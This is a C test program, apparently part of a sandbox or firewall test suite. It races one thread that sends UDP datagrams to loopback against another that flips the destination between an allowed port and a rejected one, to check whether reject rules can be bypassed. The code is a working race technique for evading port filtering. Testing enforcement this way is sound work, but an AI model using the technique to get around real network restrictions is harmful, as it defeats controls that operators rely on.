// An attacker against reject rules for datagrams: one thread sends UDP datagrams over and over while
// another flips the destination between a port a rule rejects and one it lets through (sendto/sendmsg:
// the port in the sockaddr; name: msg_name between NULL, the connected allowed peer, and the rejected one).
// Usage: dgramflip ALLOWED_PORT REJECTED_PORT TRIES sendto|sendmsg|name
// Prints "sent N tries N errno E"; the rejected port's owner counts what reached it.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in shared, rejected;
static struct msghdr message;
static atomic_int stop;
static int mode; // 0 sendto, 1 sendmsg, 2 name
static unsigned short allowedPort, rejectedPort;

static void *flip(void *arg)
{
    (void)arg;
    volatile unsigned short *port = (volatile unsigned short *)&shared.sin_port;
    void *volatile *name = (void *volatile *)&message.msg_name;
    while (!atomic_load(&stop)) {
        if (mode == 2) { *name = &rejected; *name = NULL; }
        else { *port = htons(rejectedPort); *port = htons(allowedPort); }
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc < 5) { fprintf(stderr, "usage: dgramflip ALLOWED_PORT REJECTED_PORT TRIES sendto|sendmsg|name\n"); return 2; }
    allowedPort = (unsigned short)atoi(argv[1]);
    rejectedPort = (unsigned short)atoi(argv[2]);
    int tries = atoi(argv[3]);
    mode = strcmp(argv[4], "sendmsg") == 0 ? 1 : strcmp(argv[4], "name") == 0 ? 2 : 0;
    shared.sin_family = rejected.sin_family = AF_INET;
    shared.sin_port = htons(allowedPort);
    rejected.sin_port = htons(rejectedPort);
    shared.sin_addr.s_addr = rejected.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0) { perror("socket"); return 1; }
    if (mode == 2 && connect(s, (struct sockaddr *)&shared, sizeof shared) < 0) { perror("connect"); return 1; }
    static char payload[] = "flip";
    struct iovec iov = { payload, sizeof payload - 1 };
    message.msg_iov = &iov;
    message.msg_iovlen = 1;
    message.msg_name = mode == 2 ? NULL : &shared;
    message.msg_namelen = sizeof shared;
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    int sent = 0, lastErrno = 0;
    for (int i = 0; i < tries; i++) {
        long r = mode == 0 ? sendto(s, payload, sizeof payload - 1, 0, (struct sockaddr *)&shared, sizeof shared)
                           : sendmsg(s, &message, 0);
        if (r >= 0) sent++;
        else lastErrno = errno;
        if (i % 256 == 0) usleep(1000); // let the receivers drain: a full buffer only drops, it proves nothing
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("sent %d tries %d errno %d\n", sent, tries, lastErrno);
    return 0;
}
